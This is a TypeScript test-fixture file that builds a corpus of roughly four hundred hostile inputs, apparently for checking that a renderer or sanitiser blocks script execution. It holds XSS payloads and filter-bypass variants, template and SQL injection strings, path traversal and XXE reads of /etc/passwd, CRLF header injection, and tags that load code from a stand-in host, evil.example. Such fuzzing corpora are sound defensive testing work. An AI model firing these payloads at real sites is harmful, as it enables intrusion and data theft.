const RUN = 'top.hostile=1';

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbegin', 'onpageshow'];
const ELEMENTS = ['img src=x', 'svg', 'body', 'details open', 'video src=x', 'iframe', 'input autofocus', 'a href=x', 'math', 'object data=x'];
const SCHEMES = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '\u0001javascript:', 'javascript&colon;', '&#106;avascript:', '&#x6A;avascript&#58;', 'vbscript:', 'data:text/html,<script>top.hostile=1</script>', 'data:image/svg+xml,<svg onload=top.hostile=1>', 'blob:', 'view-source:javascript:'];
const LINKS = ['<a href="X">go</a>', '[go](X)', '[go](<X>)', '![go](X)', '[go]: X\n\n[go]', '<X>', '<form action="X"><button>go</button></form>', '<iframe src="X"></iframe>', '<svg><a xlink:href="X"><text y="9">go</text></a></svg>', '<meta http-equiv=refresh content="0;url=X">'];
const BREAKERS = ['"', "'", '">', "'>", '`', '</textarea>', '</title>', '</script>', '</style>', '--><!--', ']]>', '<![CDATA[', '</svg>', '</p></div>', '&quot;&gt;', '%22%3E', '\u202e', '\u200b', '\u2028', '{{', '}}', '${', '<%='];
const SINGLES = [
  '{{7*7}}', '{{{7*7}}}', '{{#with "s" as |string|}}{{string}}{{/with}}', '{{lookup . "constructor"}}', '{{> layout}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{count, plural, one {x} other {y}}', "'; drop table posts; --", "' or 1=1 --", '\\\'; select pg_sleep(9); --',
  "a & | ! ( ) <-> 'b':*", '!!!', '(((', '\\', '%_%', ':*', '../../../etc/passwd', '..%2f..%2fetc%2fpasswd', 'x\r\nBcc: all@example.org', 'x%0d%0aSet-Cookie: a=b', '\u001b[31mred\u001b[0m', '{"level":50}\n{"level":30}',
  '**[x](javascript:top.hostile=1)**', '> > > <script>top.hostile=1</script>', '`<script>top.hostile=1</script>`', '```html\n<script>top.hostile=1</script>\n```', '<scr<script>ipt>top.hostile=1</scr</script>ipt>', '<script src=//evil.example/x.js></script>', '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css";</style>', '<base href=//evil.example/>', '<noscript><p title="</noscript><img src=x onerror=top.hostile=1>">', '<math><mi//xlink:href="data:x,<script>top.hostile=1</script>">', '<template><script>top.hostile=1</script></template>', '<svg><animate onbegin=top.hostile=1 attributeName=x dur=1s>',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', '&lt;script&gt;top.hostile=1&lt;/script&gt;', '\ufffe\uffff\u0001\u000b', '\u2066\u2067abc\u2069', 'a\u0300'.repeat(30),
];

/** Some four hundred texts that mean harm, of the families that are known; any that runs sets `hostile` on the window. */
export const HOSTILE: readonly string[] = [
  ...HANDLERS.flatMap((handler) => ELEMENTS.map((element) => `<${element} ${handler}=${RUN}>`)),
  ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link.replace('X', scheme.endsWith(':') || scheme.includes('colon') || scheme.endsWith('58;') ? `${scheme}${RUN}` : scheme))),
  ...BREAKERS.flatMap((breaker) => [`${breaker}<script>${RUN}</script>`, `${breaker}<img src=x onerror=${RUN}>`, `${breaker} onfocus=${RUN} autofocus x=${breaker}`]),
  ...SINGLES,
];
